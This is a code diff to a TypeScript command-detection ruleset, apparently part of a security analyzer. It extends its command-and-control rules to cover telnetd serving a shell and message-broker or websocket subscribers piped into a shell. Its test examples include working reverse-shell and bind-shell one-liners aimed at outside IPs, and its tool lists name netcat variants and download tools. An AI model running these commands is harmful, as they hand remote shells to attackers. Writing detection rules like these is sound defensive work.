@@ -23,7 +23,8 @@ import { deviceResolvers } from '../knowledge/network-devices.js';
 /** Shared vocabulary of the host-compromise analyzers (persistence, privilege escalation, evasion, impact use it too). */
 export const FETCHERS: ReadonlySet<string> = new Set(['curl', 'wget', 'fetch', 'aria2c', 'http', 'https', 'xh', 'lwp-download', 'lwp-request', 'wget2', 'curlie', 'tftp']);
 export const NETCATS: ReadonlySet<string> = new Set(['nc', 'ncat', 'netcat', 'nc.traditional', 'nc.openbsd', 'cryptcat', 'pwncat', 'gs-netcat']);
-const SOCKET_TOOLS = new Set([...NETCATS, 'telnet', 'socat', 'openssl']);
+// (and a message broker's subscriber, whose messages arrive one per line)
+const SOCKET_TOOLS = new Set([...NETCATS, 'telnet', 'socat', 'openssl', 'mosquitto_sub', 'websocat', 'wscat']);
 /** Text transforms and filters a payload passes through between the download and the shell (`curl … | jq -r .content | bash`). */
 const PASSTHROUGH = new Set(['base64', 'base32', 'gunzip', 'gzip', 'zcat', 'xz', 'unxz', 'bzip2', 'bunzip2', 'zstd', 'tee', 'cat', 'sed', 'tr', 'rev', 'xxd', 'openssl', 'head', 'tail', 'dd', 'iconv', 'sort', 'perl', 'gpg', 'jq', 'yq', 'awk', 'cut', 'grep']);
 /** Well-known installer hosts that are not in the shared developer-host list; piping them to a shell is routine. */
@@ -1030,10 +1031,12 @@ export const RULES: readonly Rule[] = [
   },
   {
     id: 'PX-C2-002', name: 'netcat-executes-shell', score: 95, tactic: 'command_and_control', technique: 'T1059.004', strong: true,
-    message: 'Runs netcat with a program attached to the connection', why: '`nc -e /bin/sh` (or ncat --exec/--sh-exec) gives whoever is on the other end a shell: a reverse or bind shell.',
+    message: 'Runs netcat with a program attached to the connection, or telnetd serving a shell', why: '`nc -e /bin/sh` (or ncat --exec/--sh-exec, or `telnetd -l /bin/sh`) gives whoever is on the other end a shell: a reverse or bind shell.',
     alternative: 'Use ssh for remote access.',
     test: (c) => {
       const a = c.argv;
+      // telnetd serving a shell instead of login: whoever connects has it, no password asked (`busybox telnetd -l /bin/sh -p 2323`)
+      if (c.name === 'telnetd' || c.name === 'utelnetd' || (c.name === 'busybox' && a[1] === 'telnetd')) return isShellWord(optionValue(a, ['-l'])) ? a.join(' ') : undefined;
       const execFlag = a.findIndex((w, i) => i > 0 && (w === '--exec' || w === '--sh-exec' || w === '--lua-exec' || w.startsWith('--exec=') || w.startsWith('--sh-exec=')));
       if (NETCATS.has(c.name) || c.name === 'busybox' || standsFor(a[0]!, NETCATS)) {
         // a plain utility on the connection is an echo or time server (`ncat -lk 127.0.0.1 7000 --exec /bin/cat`)
@@ -1046,7 +1049,7 @@ export const RULES: readonly Rule[] = [
       const e = a.indexOf('-e');
       return e > 0 && (isShellWord(a[e + 1]) || standsFor(a[e + 1] ?? '', SHELLS)) && a.some((w) => destinationOf(w) !== undefined) && a.some((w) => /^\d{2,5}$/.test(w)) ? a.join(' ') : undefined;
     },
-    examples: { fire: ["tar cf /dev/null /dev/null --checkpoint=1 --checkpoint-action=exec='nc -e /bin/sh 45.33.12.7 4444'", 'nc -e /bin/sh 45.33.12.7 4444', '/usr/bin/ncat 10.0.0.5 443 --ssl --sh-exec "bash -i"', 'nc -lvnp 4444 -e /bin/bash', "n''c -c bash 45.33.12.7 4444", 'cp /bin/nc /tmp/.s; /tmp/.s -e /bin/sh 45.33.12.7 4444'], quiet: ['nc -z localhost 5432', 'nc -vz db.internal 3306', 'ncat --version', 'echo PING | nc localhost 6379', 'ncat -lvk 127.0.0.1 7000 --exec /bin/cat', 'ncat -l 8081 -k -e /bin/date'] },
+    examples: { fire: ['busybox telnetd -l /bin/sh -p 2323', "tar cf /dev/null /dev/null --checkpoint=1 --checkpoint-action=exec='nc -e /bin/sh 45.33.12.7 4444'", 'nc -e /bin/sh 45.33.12.7 4444', '/usr/bin/ncat 10.0.0.5 443 --ssl --sh-exec "bash -i"', 'nc -lvnp 4444 -e /bin/bash', "n''c -c bash 45.33.12.7 4444", 'cp /bin/nc /tmp/.s; /tmp/.s -e /bin/sh 45.33.12.7 4444'], quiet: ['busybox telnetd -l /bin/login -p 23', 'nc -z localhost 5432', 'nc -vz db.internal 3306', 'ncat --version', 'echo PING | nc localhost 6379', 'ncat -lvk 127.0.0.1 7000 --exec /bin/cat', 'ncat -l 8081 -k -e /bin/date'] },
   },
   {
     id: 'PX-C2-003', name: 'shell-piped-through-socket', score: 90, tactic: 'command_and_control', technique: 'T1059.004', strong: true,
@@ -1056,7 +1059,7 @@ export const RULES: readonly Rule[] = [
       const sock = (n?: SimpleCommand) => n !== undefined && SOCKET_TOOLS.has(n.name) && (n.name !== 'openssl' || n.argv[1] === 's_client' || n.argv[1] === 's_server');
       return sock(c.pipeFrom) || sock(c.pipeTo) ? [c.pipeFrom?.argv.join(' '), c.argv.join(' '), c.pipeTo?.argv.join(' ')].filter(Boolean).join(' | ') : undefined;
     },
-    examples: { fire: ['rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 45.33.12.7 4444 > /tmp/f', 'telnet 45.33.12.7 4444 | /bin/bash | telnet 45.33.12.7 4445', 'openssl s_client -quiet -connect 1.2.3.4:443 | sh', 'mkfifo /dev/shm/f; openssl s_server -quiet -accept 8443 -key k.pem -cert c.pem < /dev/shm/f | /bin/bash > /dev/shm/f 2>&1', 'mknod /tmp/p p && sh 0</tmp/p | nc 203.0.113.5 80 1>/tmp/p'], quiet: ['echo PING | nc localhost 6379', 'openssl s_client -connect example.com:443 </dev/null', 'bash build.sh | tee build.log'] },
+    examples: { fire: [`nc 45.33.12.7 4444 | while read c; do eval "$c"; done`, `mosquitto_sub -h broker.emqx.io -t 'dev/a7f2/cmd' | while read c; do sh -c "$c"; done`, 'rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 45.33.12.7 4444 > /tmp/f', 'telnet 45.33.12.7 4444 | /bin/bash | telnet 45.33.12.7 4445', 'openssl s_client -quiet -connect 1.2.3.4:443 | sh', 'mkfifo /dev/shm/f; openssl s_server -quiet -accept 8443 -key k.pem -cert c.pem < /dev/shm/f | /bin/bash > /dev/shm/f 2>&1', 'mknod /tmp/p p && sh 0</tmp/p | nc 203.0.113.5 80 1>/tmp/p'], quiet: [`mosquitto_sub -h localhost -t 'sensors/#' -v | while read line; do echo "$line" >> log.txt; done`, 'echo PING | nc localhost 6379', 'openssl s_client -connect example.com:443 </dev/null', 'bash build.sh | tee build.log'] },
   },
   {
     id: 'PX-C2-004', name: 'socat-exec-over-network', score: 95, tactic: 'command_and_control', technique: 'T1059.004', strong: true,
